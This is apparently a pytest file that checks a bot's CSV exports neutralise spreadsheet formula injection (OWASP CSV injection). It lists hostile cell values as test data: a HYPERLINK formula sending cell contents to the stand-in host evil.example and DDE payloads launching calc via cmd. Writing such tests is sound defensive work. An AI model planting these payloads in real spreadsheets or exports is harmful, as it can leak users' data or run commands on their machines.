"""CSV injection (OWASP): no cell of a CSV the bot writes runs as a formula in a spreadsheet, in the
chat's `!depots export`, `manufacture-bot deposits export --format csv` and (tests/unit/bot/board)
the web board's export; ordinary text reads as it was."""

from __future__ import annotations

import csv
import io

import pytest

from handlers.text import spreadsheet_safe
from tests.unit.handlers.deposits.deposit_app import ALICE, FACILITATOR, FACILITATORS, TRIBE_ENERGY, run_cli
from tests.unit.handlers.deposits.test_facilitation import ORDINARY, store_deposit

FORMULAS = {
    "title": '=HYPERLINK("http://evil.example/?"&A1,"Cliquez ici")',
    "territory": "+cmd|' /C calc'!A0",
    "description": "-1+1",
    "carrier_name": "@SUM(1+1)*cmd|' /C calc'!A0",
    "contact": "\t=1+1",
}


@pytest.mark.parametrize(
    ("cell", "safe"),
    [
        ('=HYPERLINK("http://evil.example","x")', '\'=HYPERLINK("http://evil.example","x")'),
        ("+cmd|' /C calc'!A0", "'+cmd|' /C calc'!A0"),
        ("-1+1", "'-1+1"),
        ("@SUM(1+1)", "'@SUM(1+1)"),
        ("\t=1+1", "'\t=1+1"),
        ("\r=1+1", "'\r=1+1"),
        # A negative-looking value keeps all it says after the mark: spreadsheets show it as text.
        ("-20 % de consommation", "'-20 % de consommation"),
        ("+33 6 12 34 56 78", "'+33 6 12 34 56 78"),
    ],
)
def test_a_cell_that_would_start_a_formula_is_neutralised_and_stays_readable(cell, safe):
    assert spreadsheet_safe(cell) == safe
    assert safe.removeprefix("'") == cell


@pytest.mark.parametrize(
    "cell",
    [
        "Jardin partagé",
        "",
        "DEP-2027-0001",
        "2027-03-01T09:00:00+00:00",
        "3 = 3",
        "Réduire de 20 % (-5 t)",
        "alice@example.org",
        "'déjà entre apostrophes",
    ],
)
def test_ordinary_text_is_left_as_written(cell):
    assert spreadsheet_safe(cell) == cell


def rows_of(data: str, delimiter: str) -> list[list[str]]:
    return list(csv.reader(io.StringIO(data), delimiter=delimiter))


def assert_no_formula(rows: list[list[str]]) -> None:
    for row in rows:
        for cell in row:
            assert not cell.startswith(("=", "+", "-", "@", "\t", "\r")), cell


async def test_every_csv_the_chat_and_the_command_line_write_is_neutralised(make_deposit_app, capsys):
    async with make_deposit_app() as h:
        store_deposit(h, 1, ALICE, TRIBE_ENERGY, {**ORDINARY, "carrier": "other", **FORMULAS})
        # A facilitator's comment is a cell too.
        await h.say(FACILITATOR, "!depot DEP-2027-0001 statut en étude =1+1", room=FACILITATORS)
        _caption, export = await h.say(FACILITATOR, "!depots export", room=FACILITATORS)
        chat = rows_of(h.attachment(export).decode("utf-8-sig"), ";")
        assert run_cli(["deposits", "export", "--format", "csv", "--config", str(h.app.config.path)]) == 0
        cli = rows_of(capsys.readouterr().out, ",")
    for rows in (chat, cli):
        assert_no_formula(rows)
        cells = set(rows[1])
        for value in FORMULAS.values():
            assert "'" + value in cells, value  # there, readable, marked as text
        assert "'=1+1" in cells and "'@alice:test" in cells
        assert "DEP-2027-0001" in cells and "Pays de Lunel" not in cells  # the territory was replaced
